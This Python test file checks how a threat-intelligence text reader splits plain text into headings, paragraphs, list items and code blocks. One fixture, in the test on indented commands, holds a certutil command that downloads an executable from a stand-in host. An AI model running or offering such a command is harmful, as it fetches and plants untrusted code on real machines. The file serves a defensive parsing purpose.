"""Plain text as blocks."""

from __future__ import annotations

from ctimine.read.plain import read_plain_text


def blocks(source):
    reading = read_plain_text(source)
    return [(b.kind, reading.text[b.start : b.end]) for b in reading.blocks]


def test_underlined_lines_are_headings_of_two_levels():
    reading = read_plain_text("Case\n====\n\nTools\n-----\nIt used T1102.\n")
    assert [(b.kind, b.level) for b in reading.blocks] == [
        ("heading", 1),
        ("heading", 2),
        ("paragraph", 0),
    ]


def test_numbered_and_capital_lines_alone_are_headings():
    source = "Case 7\n\nIt began in May, as they say.\n\n1. Tools used\n\nwords follow here.\n\nWHAT TO DO\n\nmore.\n"
    assert [text for kind, text in blocks(source) if kind == "heading"] == [
        "Case 7",
        "1. Tools used",
        "WHAT TO DO",
    ]


def test_a_line_that_ends_like_a_sentence_is_no_heading():
    assert blocks("It used a dead drop.\n\nwords")[0][0] == "paragraph"


def test_wrapped_lines_become_one_and_short_lines_stay():
    source = (
        "The group used a public page as a dead drop and came\nback a week later with a Web\nService."
        "\n\nTLP: CLEAR\nDate: 2024-05-06\n"
    )
    assert blocks(source)[0][1].startswith(
        "The group used a public page as a dead drop and came back"
    )
    assert blocks(source)[1] == ("paragraph", "TLP: CLEAR\nDate: 2024-05-06")


def test_items_have_depth_and_keep_their_wrapped_lines():
    reading = read_plain_text("- one\n  more\n    - two\n* three\n")
    found = [(b.kind, b.level, reading.text[b.start : b.end]) for b in reading.blocks]
    assert found == [
        ("list_item", 1, "one more"),
        ("list_item", 3, "two"),
        ("list_item", 1, "three"),
    ]


def test_a_list_right_after_its_introduction_is_a_list():
    assert blocks("It used:\n- T1102\n- T1071\n") == [
        ("paragraph", "It used:"),
        ("list_item", "T1102"),
        ("list_item", "T1071"),
    ]


def test_indented_commands_are_code_and_indented_words_are_not():
    source = "Seen:\n\n    $ certutil -urlcache -f http://x.example/a a.exe\n\n    They said that it was not them and left it there\n"
    assert [kind for kind, _ in blocks(source)] == ["paragraph", "code", "paragraph"]


def test_rules_are_dropped_and_page_feeds_end_paragraphs():
    assert blocks("one\n-----------\n\n* * *\n\ntwo\fthree.\n")[-2:] == [
        ("paragraph", "two"),
        ("paragraph", "three."),
    ]


def test_windows_line_ends_are_line_ends():
    assert blocks("one.\r\n\r\ntwo.\r\n") == [("paragraph", "one."), ("paragraph", "two.")]
